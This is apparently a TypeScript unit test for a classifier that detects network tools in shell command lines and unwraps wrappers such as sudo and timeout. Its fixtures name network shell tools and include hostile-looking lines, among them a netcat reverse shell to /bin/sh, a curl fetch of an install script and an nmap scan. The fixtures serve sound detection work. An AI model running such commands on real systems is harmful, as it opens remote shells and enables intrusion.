import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isNetworkTool } from '../../../../src/trace/classify/network-tool.js';
import { unwrap } from '../../../../src/trace/classify/argv.js';

const sh = (s: string) => s.split(' ');

describe('isNetworkTool', () => {
  it('recognises network tools, by name and through wrappers', () => {
    for (const line of [
      'curl -fsSL https://example.com/install.sh',
      '/usr/bin/wget http://x',
      'ssh user@host uptime',
      'scp f host:/tmp',
      'sftp host',
      'nc -l 4444',
      'ncat 10.0.0.1 80',
      'netcat host 25',
      'nc.openbsd -z host 22',
      'socat TCP:host:80 -',
      'telnet host',
      'ftp host',
      'nmap -sS 10.0.0.0/24',
      'dig example.com',
      'rsync -a src/ host:/backup/',
      'rsync -e ssh src dst',
      'rsync rsync://mirror/module/ .',
      'openssl s_client -connect host:443',
      'timeout 5 curl http://x',
      'env -i HOME=/ curl x',
      'nohup nc -e /bin/sh host 4444',
    ])
      assert.equal(isNetworkTool(sh(line)), true, line);
  });

  it('does not flag local work', () => {
    for (const line of [
      'rsync -a src/ dst/',
      'rsync ./a:b ./c',
      'openssl genrsa 2048',
      'ls curl',
      'cat /usr/bin/wget',
      'python3 -m http.server',
      'git status',
    ])
      assert.equal(isNetworkTool(sh(line)), false, line);
  });

  it('unwraps env, sudo, nice and timeout down to the program that works', () => {
    assert.deepEqual(unwrap(sh('sudo -u bob env A=1 B=2 nice -n 5 timeout -s KILL 10 make -j4')), [
      'make',
      '-j4',
    ]);
    assert.deepEqual(unwrap(sh('ls -la')), ['ls', '-la']);
    assert.deepEqual(unwrap([]), []);
  });
});
